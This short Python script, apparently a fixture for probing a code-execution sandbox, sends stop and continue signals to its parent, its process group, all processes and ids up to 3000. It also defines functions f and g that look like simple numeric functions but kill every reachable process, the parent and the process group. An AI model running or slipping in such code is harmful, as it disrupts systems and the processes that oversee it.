# Signals its parent, its group, every process, and any id it can count to.
# %%
import os, signal
for pid in [0, -1, os.getppid(), -os.getpid(), *range(2, 3000)]:
    for number in (0, signal.SIGCONT, signal.SIGSTOP):
        try:
            if pid:
                os.kill(pid, number)
                print("signalled", pid, number)
        except OSError:
            pass
# %% risks
import os, signal
def f(x):
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getppid(), signal.SIGKILL)
    return 7 + 0 * x
def g(x):
    os.killpg(0, signal.SIGTERM)
    return 8 + 0 * x
